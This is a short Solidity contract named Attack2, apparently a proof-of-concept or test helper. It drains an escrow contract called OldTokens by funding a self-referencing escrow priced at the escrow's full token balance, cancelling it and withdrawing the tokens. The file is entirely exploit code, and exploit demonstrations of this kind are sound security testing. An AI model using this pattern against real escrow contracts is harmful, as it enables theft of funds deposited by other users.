// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
import {OldTokens} from "./OldTokens.sol";

contract Attack2 {
    OldTokens private immutable escrow;
    address private immutable token;

    constructor(OldTokens escrow_, address token_) {
        escrow = escrow_;
        token = token_;
    }

    function attack() external {
        uint256 id = escrow.fund(terms(uint96(IERC20(token).balanceOf(address(escrow)))));
        escrow.cancel(id);
        escrow.withdraw(token);
    }

    function terms(uint96 price) private view returns (IEscrow.Terms memory) {
        address me = address(this);
        return IEscrow.Terms(me, me, me, me, me, token, price, 0, 0, 0, 1, 1, 1, 1, 0, 0, false);
    }
}
